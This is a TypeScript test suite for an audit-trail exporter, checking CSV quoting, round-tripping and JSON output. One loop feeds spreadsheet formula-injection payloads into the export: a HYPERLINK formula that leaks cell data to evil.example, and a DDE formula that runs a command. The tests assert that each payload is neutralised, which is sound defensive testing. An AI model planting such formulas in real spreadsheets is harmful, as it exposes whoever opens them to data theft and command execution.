import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { FORMATS } from '../../src/command-line/audit-format.ts';
import type { AuditLine } from '../../src/store/index.ts';

const LINE: AuditLine = {
  ...{ at: new Date('2026-11-23T08:30:00.5Z'), event: 'invited', via: 'typed', verb: 'invite' },
  ...{ byId: '29:ann', byName: 'Ann', personName: 'Mary', personAddress: 'tel:+4930123456' },
  ...{ outcome: null, why: null, method: null, code: null, answeredBy: null },
  ...{ channel: 'msteams', threadId: '19:x@thread', conferenceId: 'c', conferenceUri: 'sip:c@conf.test' },
  ...{ cardId: 'card', about: 'i' },
};

async function textOf(format: keyof typeof FORMATS, lines: readonly Partial<AuditLine>[]): Promise<string> {
  let text = '';
  async function* source() {
    for (const line of lines) yield { ...LINE, ...line };
  }
  for await (const part of FORMATS[format](source())) text += part;
  return text;
}

const csv = async (lines: readonly Partial<AuditLine>[]) =>
  parse(await textOf('csv', lines), { columns: true }) as Record<string, string>[];

describe('the audit trail as text', () => {
  it('is CSV with a header, CRLF, instants in UTC, and nothing for what is not there', async () => {
    const [header = '', line, end] = (await textOf('csv', [LINE])).split('\r\n');
    assert.equal(header.split(',').slice(0, 5).join(), 'at,event,via,verb,byName');
    assert.equal(
      line,
      '2026-11-23T08:30:00.500Z,invited,typed,invite,Ann,29:ann,Mary,tel:+4930123456,,,,,,' +
        'msteams,19:x@thread,c,sip:c@conf.test,card,i',
    );
    assert.equal(end, '');
  });

  for (const name of ['Ann, Amy', 'Ann "A" Ames', 'Ann\r\nAmes', 'Ann; Amy', '"', '", "', 'Müller 李', '']) {
    it(`is read back as it was: ${JSON.stringify(name)}`, async () => {
      assert.deepEqual(
        (await csv([{ byName: name }, {}])).map(({ byName }) => byName),
        [name, 'Ann'],
      );
    });
  }

  for (const name of [
    `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
    `=cmd|' /C calc'!A0`,
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    '＠x',
  ]) {
    it(`has no formula for a spreadsheet: ${JSON.stringify(name)}`, async () => {
      for (const column of [
        'byName',
        'byId',
        'personName',
        'personAddress',
        'why',
        'threadId',
        'about',
      ] as const) {
        assert.equal((await csv([{ [column]: name }]))[0]?.[column], `'${name}`);
      }
    });
  }

  it('leaves numbers alone: they stand behind their scheme', async () => {
    const [line] = await csv([{ personName: '+49 30 123456' }]);
    assert.deepEqual([line?.personName, line?.personAddress], [`'+49 30 123456`, 'tel:+4930123456']);
  });

  it('is JSON, with every value as it is', async () => {
    const text = await textOf('json', [{ byName: '=1+1' }, { byName: 'a\nb', code: 486 }]);
    const lines = JSON.parse(text);
    assert.deepEqual(
      [lines[0].byName, lines[1].byName, lines[1].code, lines[0].outcome],
      ['=1+1', 'a\nb', 486, null],
    );
    assert.equal(lines[0].at, '2026-11-23T08:30:00.500Z');
    assert.equal(text.split('\n').length, 5, 'a line of text each');
    assert.equal(await textOf('json', []), '[]\n');
  });
});
